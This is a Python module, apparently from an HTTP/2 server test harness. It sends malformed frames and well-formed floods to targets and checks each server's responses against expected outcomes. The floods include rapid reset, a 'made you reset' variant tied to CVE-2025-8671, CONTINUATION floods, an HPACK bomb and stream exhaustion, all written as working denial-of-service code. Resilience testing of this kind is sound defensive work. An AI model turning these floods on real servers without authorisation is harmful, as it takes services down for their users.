"""Attacks on HTTP/2: each malformed frame, and floods of well-formed ones."""

import concurrent.futures

import malformed
from frames import Connection, PREFACE, block, frame, request_fields as fields
from malformed import CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PRIORITY, RST, SETTINGS, WHOLE, WINDOW, number

# The stream of the request that asks whether a connection lives; floods keep below.
PROBE = 2_000_001
GONE = "GOAWAY PROTOCOL_ERROR closed"
CALM = "GOAWAY ENHANCE_YOUR_CALM closed"
# A connection that asks for nothing may be over its idle time before the flood is, on a slow machine.
IDLE = "GOAWAY NO_ERROR closed"


def attack(targets, report, long):
    with concurrent.futures.ThreadPoolExecutor(8) as pool:
        for target in targets:
            cases = [("h2 request", *case, PREFACE) for case in malformed.REQUESTS]
            cases += [("h2 frame", *case, PREFACE) for case in malformed.FRAMES]
            cases += [("h2 frame", name, b"", expected, preface) for name, preface, expected in malformed.PREFACES]
            for case, got in zip(cases, pool.map(lambda case: single(target.tls, *case[2:]), cases)):
                report.add(case[0], case[1], target.name, got, case[3])
    for name, flood, expected in FLOODS:
        for target in targets:
            report.add("h2 flood", name, target.name, flood(target.tls, 20 if long else 4), expected)


def single(port, data, expected, preface):
    with Connection(port, preface=preface) as connection:
        connection.send(data)
        return connection.verdict(None if expected == "open" else 1, PROBE)


def flood(port, pieces, settings=None, stream=None, first=b""):
    """Sends pieces as long as the server takes them; gives what became of it."""
    with Connection(port, settings) as connection:
        connection.send(first)
        for piece in pieces:
            if not connection.send(piece):
                break
            connection.receive(0)
        return connection.verdict(stream, PROBE)


def streams(count, each, per_piece=50):
    """What `each` makes for a run of new streams, some of them in one write."""
    for begin in range(0, count, per_piece):
        yield b"".join(each(2 * n + 1) for n in range(begin, begin + per_piece))


def ask(stream, flags=WHOLE, **kwargs):
    return frame(HEADERS, flags, stream, block(fields(**kwargs)))


def upload(stream):
    """A request whose body never ends; the API behind waits for it."""
    return ask(stream, END_HEADERS, path="/redirections", method="POST")


def cancel(stream):
    return frame(RST, 0, stream, number(8))


def rapid_reset(port, scale):
    return flood(port, streams(1_000 * scale, lambda n: ask(n) + cancel(n)))


def rapid_reset_behind(port, scale):
    return flood(port, streams(1_000 * scale, lambda n: upload(n) + cancel(n)))


def made_you_reset(kind):
    """Makes the server reset its own streams, by a fault of each kind (CVE-2025-8671)."""
    faults = {
        "window of 0": lambda n: frame(WINDOW, 0, n, number(0)),
        "window over 2^31": lambda n: frame(WINDOW, 0, n, number((1 << 31) - 1)),
        "data behind the end": lambda n: frame(DATA, END_STREAM, n, b"") + frame(DATA, END_STREAM, n, b"x"),
        "headers behind the end": lambda n: frame(DATA, END_STREAM, n, b"") + frame(HEADERS, WHOLE, n, block([("x", "y")])),
        "priority on itself": lambda n: frame(PRIORITY, 0, n, number(n) + b"\x10"),
        "length passed over": lambda n: frame(DATA, END_STREAM, n, b"xx"),
    }
    def attack(port, scale):
        begin = lambda n: frame(HEADERS, END_HEADERS, n, block(fields("/redirections", "POST", [("content-length", "1")])))
        return flood(port, streams(1_000 * scale, lambda n: begin(n) + faults[kind](n)))
    return attack


def continuations(payload):
    def attack(port, scale):
        first = frame(HEADERS, END_STREAM, 1, block(fields()))
        piece = frame(CONTINUATION, 0, 1, payload) * 64
        return flood(port, (piece for _ in range(100 * scale)), first=first)
    return attack


def settings_flood(port, scale):
    piece = frame(SETTINGS, 0, 0, b"\0\4\0\1\0\0") * 100
    return flood(port, (piece for _ in range(100 * scale)))


def ping_flood(port, scale):
    piece = frame(PING, 0, 0, b"12345678") * 100
    return flood(port, (piece for _ in range(100 * scale)))


def unread_pings(port, scale):
    """Pings whose answers are never read: they must not pile up."""
    connection = Connection(port, receive_buffer=4_096)
    with connection:
        connection.sock.setblocking(False)
        piece, sent = frame(PING, 0, 0, b"12345678") * 100, 0
        for _ in range(2_000 * scale):
            try:
                sent += connection.sock.send(piece)
            except OSError:
                break
        # It took all, or stopped to read: in both cases what it holds is bounded.
        return "held" if sent < 2_000 * scale * len(piece) else "took all"


def empty_data(port, scale):
    piece = frame(DATA, 0, 1) * 100
    return flood(port, (piece for _ in range(100 * scale)), first=upload(1))


def padded_data(port, scale):
    """Frames that are padding alone: they cost window, and the window comes back."""
    piece = frame(DATA, 8, 1, b"\xff" + b"\0" * 255) * 50
    return flood(port, (piece for _ in range(100 * scale)), first=upload(1))


def empty_headers(port, scale):
    return flood(port, streams(1_000 * scale, lambda n: frame(HEADERS, WHOLE, n)))


def priorities(port, scale):
    """Every idle stream depends on the next one, and the last on the first."""
    loop = lambda n: frame(PRIORITY, 0, n, number((n + 2) % 2_001 | 1) + b"\xff")
    return flood(port, (b"".join(loop(n) for n in range(1, 2_001, 2)) for _ in range(5 * scale)))


def unknown_frames(port, scale):
    piece = frame(0xEE, 0, 0, b"x" * 16) * 100
    return flood(port, (piece for _ in range(100 * scale)))


def window_dribble(port, scale):
    piece = frame(WINDOW, 0, 0, number(1)) * 100
    return flood(port, (piece for _ in range(100 * scale)))


def hpack_bomb(port, scale):
    """One field of 3 KiB in the table, and then a thousand times the byte that stands for it."""
    field = b"\x40\x01x" + b"\x7f" + bytes([0xE1, 0x16]) + b"y" * 3_040
    with Connection(port) as connection:
        for stream in range(1, 2 * 10 * scale, 2):
            fill = field if stream == 1 else b""
            # 62 is the newest entry of the table.
            if not connection.send(frame(HEADERS, WHOLE, stream, fill + block(fields()) + b"\xbe" * 10_000)):
                break
        return connection.verdict(None, PROBE)


def large_headers(port, scale):
    """64 KiB of fields in frames of 16 KiB, well formed."""
    field = block([("x", "y" * 8_000)])
    data = frame(HEADERS, END_STREAM, 1, block(fields()) + field)
    data += frame(CONTINUATION, 0, 1, field * 2) * 3 + frame(CONTINUATION, END_HEADERS, 1, field)
    return flood(port, [data], stream=1)


def too_many_streams(port, scale):
    """150 requests at once: those beyond 100 under way are refused; some may have been answered before the last came."""
    with Connection(port) as connection:
        connection.until(lambda: connection.acks)
        connection.send(b"".join(upload(2 * n + 1) for n in range(150)))
        told = lambda stream: stream in connection.resets or stream in connection.statuses
        connection.until(lambda: all(told(2 * n + 1) for n in range(100, 150)))
        refused = sum(code == 7 for code in connection.resets.values())
        return f"{refused} refused" + (" closed" if connection.ended else "")


def zero_window(port, scale):
    """Bodies that may not be sent: answers wait, and what waits is bounded."""
    with Connection(port, settings={4: 0}) as connection:
        for n in range(100):
            connection.send(ask(2 * n + 1, path="/SAFE.png?w=1000&h=1000"))
        connection.until(lambda: len(connection.statuses) + len(connection.resets) >= 100)
        return f"{sum(status < 500 for status in connection.statuses.values())} answers held"


FLOODS = [
    ("rapid reset", rapid_reset, (CALM, "open")),
    ("rapid reset of requests under way", rapid_reset_behind, CALM),
    *((f"made you reset: {kind}", made_you_reset(kind), (CALM, GONE)) for kind in (
        "window of 0", "window over 2^31", "data behind the end", "headers behind the end", "priority on itself",
        "length passed over",
    )),
    ("CONTINUATION, empty", continuations(b""), CALM),
    ("CONTINUATION of 1 KiB", continuations(block([("x", "y" * 1_000)])), CALM),
    ("SETTINGS", settings_flood, ("open", IDLE)),
    ("PING", ping_flood, ("open", IDLE)),
    ("PING, answers not read", unread_pings, ("held", "took all")),
    ("DATA, empty", empty_data, CALM),
    ("DATA, padding alone", padded_data, CALM),
    ("HEADERS, empty", empty_headers, CALM),
    ("PRIORITY in loops", priorities, ("open", IDLE)),
    ("unknown frames", unknown_frames, ("open", IDLE)),
    ("WINDOW_UPDATE of 1", window_dribble, ("open", IDLE)),
    ("HPACK bomb", hpack_bomb, CALM),
    ("headers of 64 KiB", large_headers, "431 open"),
    ("150 streams at once", too_many_streams, tuple(f"{n} refused" for n in range(1, 51))),
    ("window of 0 held", zero_window, "100 answers held"),
]
